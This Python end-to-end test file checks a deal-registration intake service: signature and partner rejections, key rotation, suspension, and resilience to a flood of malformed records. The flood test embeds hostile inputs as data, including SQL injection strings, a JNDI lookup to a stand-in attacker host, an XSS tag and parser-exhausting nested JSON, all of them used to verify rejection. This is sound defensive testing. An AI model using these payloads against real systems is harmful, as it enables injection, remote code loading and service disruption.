"""Intake as a process on the real stack: every rejection reason, key rotation and suspension, a hostile flood."""

from __future__ import annotations

import json
import uuid
from typing import Any

import pytest

from dealreg_devstack.procs import wait_until
from dealreg_devstack.topicreader import collect
from dealreg_shared.contracts import EventType, PartnerKeysUpdated, PartnerStatusChanged, PublicKey
from dealreg_shared.kafka import publish_event
from dealreg_shared.partner import PartnerClient, signed_submission
from dealreg_shared.signing import SigningKey
from dealreg_shared.topics import PARTNERS, REGISTRATIONS_SUBMITTED
from tests.conftest import unique
from tests.e2e.conftest import Pipeline
from tests.e2e.intake_helpers import (
    admin_fetchval,
    answers,
    nothing_went_past_intake,
    partner_of,
    registration_for,
    send,
    signed_raw,
)

pytestmark = pytest.mark.e2e


async def test_every_rejection_reason_reaches_the_partner_and_nothing_of_it_reaches_vetting(pipeline: Pipeline) -> None:
    p = pipeline
    partner, other = await p.onboard("contoso-partner"), await p.onboard("rival")
    k = p.stack.kafka_bootstrap
    expected: dict[str, tuple[str, str]] = {}

    forged = registration_for(partner.partner_id)  # signed with a key the partner never registered
    async with PartnerClient(bootstrap=k, key=SigningKey.generate("k1")) as client:
        await client.submit(forged)
    impersonated = registration_for(partner.partner_id)  # the rival's own valid key, the partner's name
    async with PartnerClient(bootstrap=k, key=other.key) as client:
        await client.submit(impersonated)
    stranger = registration_for(unique("p-nobody-"))
    async with PartnerClient(bootstrap=k, key=SigningKey.generate("k1")) as client:
        await client.submit(stranger)
    expected |= {
        str(forged.registration_id): ("rejected", "unauthenticated"),
        str(impersonated.registration_id): ("rejected", "unauthenticated"),
        str(stranger.registration_id): ("rejected", "unknown_partner"),
    }

    invalid: dict[str, dict[str, Any]] = {
        "customer.country": {"customer": {"country": "XX"}},
        "opportunity.estimated_value.currency": {"opportunity": {"estimated_value": {"currency": "XAU"}}},
        "opportunity.expected_close_date": {"opportunity": {"expected_close_date": "2001-01-01"}},
        "customer.contact.email": {"customer": {"contact": {"email": "jana@localhost"}}},
    }
    invalid_ids = {}
    for field, change in invalid.items():
        data = registration_for(partner.partner_id).model_dump(mode="json")
        merge(data, change)
        value = json.dumps(data).encode()
        await send(p, value, signed_raw(partner.partner_id, value, partner.key), key=b"p", partition=0)
        invalid_ids[data["registration_id"]] = field
        expected[data["registration_id"]] = ("rejected", "invalid_payload")

    got = await answers(p, expected)
    assert {rid: a[0] for rid, a in got.items()} == expected
    await nothing_went_past_intake(p, list(expected))

    # the partner is told, with the field, through its own webhook; the rival hears nothing of it
    def told_invalid() -> list[dict[str, Any]]:
        return [h for h in partner_of(p, partner) if h.get("reason_code") == "invalid_payload"]

    await p.eventually(lambda: len(told_invalid()) == len(invalid), "the partner hears of each invalid submission")
    for hook in told_invalid():
        assert invalid_ids[hook["registration_id"]] in hook["message"]
    assert all(h.get("registration_id") not in expected for h in partner_of(p, other))


def merge(target: dict[str, Any], change: dict[str, Any]) -> None:
    for name, value in change.items():
        if isinstance(value, dict):
            merge(target[name], value)
        else:
            target[name] = value


async def test_key_rotation_suspension_and_reinstatement_take_effect_as_partner_events_arrive(
    pipeline: Pipeline,
) -> None:
    p = pipeline
    partner = await p.onboard("rotating")
    pid, old_key, new_key = partner.partner_id, partner.key, SigningKey.generate("k2")

    async def partner_event(type: str, data: Any, holds: str, *args: Any) -> None:
        await publish_event(p.producer, PARTNERS, key=pid, type=type, source="dealreg/vetting", data=data)
        await wait_projection(p, holds, pid, *args)

    keys = [PublicKey(key_id="k2", public_key=new_key.public_key_b64url)]
    await partner_event(
        EventType.PARTNER_KEYS_UPDATED,
        PartnerKeysUpdated(partner_id=pid, public_keys=keys),
        "select array_agg(key_id) = array['k2'] from intake.partner_keys where partner_id = $1",
    )
    with_old, with_new = registration_for(pid), registration_for(pid)
    for registration, key in ((with_old, old_key), (with_new, new_key)):
        async with PartnerClient(bootstrap=p.stack.kafka_bootstrap, key=key) as client:
            await client.submit(registration)
    got = await answers(p, [with_old.registration_id, with_new.registration_id])
    assert got[str(with_old.registration_id)] == [("rejected", "unauthenticated")]
    assert got[str(with_new.registration_id)] == [("received", None)]

    await partner_event(
        EventType.PARTNER_SUSPENDED,
        PartnerStatusChanged(partner_id=pid, reason="unpaid invoices"),
        "select not active from intake.partners where partner_id = $1",
    )
    suspended = registration_for(pid)
    async with PartnerClient(bootstrap=p.stack.kafka_bootstrap, key=new_key) as client:
        await client.submit(suspended)
    assert (await answers(p, [suspended.registration_id]))[str(suspended.registration_id)] == [
        ("rejected", "partner_inactive")
    ]

    await partner_event(
        EventType.PARTNER_REINSTATED,
        PartnerStatusChanged(partner_id=pid),
        "select active from intake.partners where partner_id = $1",
    )
    reinstated = registration_for(pid)
    async with PartnerClient(bootstrap=p.stack.kafka_bootstrap, key=new_key) as client:
        await client.submit(reinstated)
    assert (await answers(p, [reinstated.registration_id]))[str(reinstated.registration_id)] == [("received", None)]


async def wait_projection(p: Pipeline, query: str, *args: Any) -> None:
    async def holds() -> bool:
        return bool(await admin_fetchval(p, query, *args))

    await wait_until(holds, timeout_s=45, what=f"intake's projection: {query}")


def hostile_values(partner_id: str) -> list[bytes]:
    """Bytes no consumer can read as an event: each must go to the .dlq and nowhere else."""
    return [
        b"\xff\xfe{not utf-8",
        b'{"registration_id": "\xc3\x28"}',  # invalid UTF-8 inside a string
        b"{not json",
        b'["an", "array"]',
        b'"a string"',
        b"42",
        b'{"registration_id": NaN}',
        b'{"a": 1, "a": 2}',
        b"[" * 200_000,  # nested far deeper than any parser should follow
        # nested as deep as the parser follows, deeper than any event: hashing it in a handler would overflow
        f'{{"registration_id": "{uuid.uuid4()}", "partner_id": "{partner_id}", "x": '.encode()
        + b"[" * 900
        + b"]" * 900
        + b"}",
        b'{"a":' * 40_000 + b"1" + b"}" * 40_000,
        b'{"x": "' + b"A" * 300_000 + b'"}',  # larger than intake reads
        b"",
    ]


async def test_a_flood_of_undecodable_and_hostile_records_never_stops_intake_nor_reaches_vetting(
    pipeline: Pipeline,
) -> None:
    p = pipeline
    partner = await p.onboard("flooded")
    pid = partner.partner_id
    dead_markers: list[str] = []
    answered: list[str] = []
    for round_ in range(3):
        for i, value in enumerate(hostile_values(pid)):
            headers = signed_raw(pid, value, partner.key)
            dead_markers.append(dict(headers)["ce_id"].decode())
            await send(p, value, headers, key=pid.encode(), partition=(round_ + i) % 6)
        # records that decode but break the contract where no one can be answered: to the .dlq as well
        for data in (
            {"registration_id": "'; drop table intake.registrations; --", "partner_id": pid},
            {"registration_id": str(uuid.uuid4()), "partner_id": "p'); delete from intake.partners; --"},
            {"partner_id": pid, "note": "\u0000\u202e"},
        ):
            value = json.dumps(data).encode()
            headers = signed_raw(pid, value, partner.key)
            dead_markers.append(dict(headers)["ce_id"].decode())
            await send(p, value, headers, key=pid.encode(), partition=round_)
        bad_headers = signed_raw(pid, b"{}", partner.key)
        for hostile in ([("ce_id", b"nul\x00id")], [("ce_specversion", b"0.3")], [("x\x00", b"")]):
            names = {n for n, _ in hostile}
            headers = [(n, v) for n, v in bad_headers if n not in names] + hostile
            marker = unique("marker-")
            headers.append(("x-test-marker", marker.encode()))
            dead_markers.append(marker)
            await send(p, b"\xff" if hostile[0][0] == "x\x00" else b"{}", headers, key=b"k", partition=round_)
        # signed by the partner, decodable, hostile inside: each answered `invalid_payload`, never stored
        for field, text in (
            ("company_name", "Contoso\u0000GmbH"),
            ("company_name", "Contoso \ud800"),
            ("company_name", "Robert'); DROP TABLE registrations;--" + "x" * 150_000),
            ("domain", "contoso.de/\u001b[2J"),
        ):
            data = registration_for(pid).model_dump(mode="json")
            data["customer"][field] = text
            data["opportunity"]["description"] = "${jndi:ldap://attacker.example/a}"
            value = json.dumps(data).encode()
            await send(p, value, signed_raw(pid, value, partner.key), key=pid.encode(), partition=round_ + 3)
            answered.append(data["registration_id"])
        # and the same, unsigned: not even looked at beyond the signature
        forged = registration_for(pid).model_dump(mode="json")
        forged["customer"]["company_name"] = "<script>alert(1)</script>"
        value = json.dumps(forged).encode()
        await send(p, value, signed_raw(pid, value, None), key=pid.encode(), partition=round_)
        answered.append(forged["registration_id"])

    good = [registration_for(pid) for _ in range(6)]
    for partition, registration in enumerate(good):  # behind the flood on every partition, a good registration
        key, value, headers = signed_submission(registration, partner.key)
        await send(p, value, headers, key=key, partition=partition)

    got = await answers(p, [*(g.registration_id for g in good), *answered])
    for registration in good:
        assert got.pop(str(registration.registration_id)) == [("received", None)], "every partition kept going"
    assert all(a[0] in (("rejected", "invalid_payload"), ("rejected", "unauthenticated")) for a in got.values())

    def marker_of(headers: dict[str, str]) -> str | None:
        return headers.get("x-test-marker") or headers.get("ce_id")

    letters = await collect(
        p.stack.kafka_bootstrap,
        REGISTRATIONS_SUBMITTED.dlq,
        until=lambda rs: set(dead_markers) <= {marker_of(r.headers) for r in rs},
        timeout_s=60,
    )
    ours = [r for r in letters if marker_of(r.headers) in set(dead_markers)]
    assert len(ours) == len(dead_markers), "one dead letter per record"
    assert all(r.headers["dlq_consumer"] == "intake" and r.headers["dlq_error"] for r in ours)
    await nothing_went_past_intake(p, answered)
    assert p.services["intake"].alive()
    assert await admin_fetchval(p, "select count(*) from intake.partners where partner_id = $1", pid) == 1
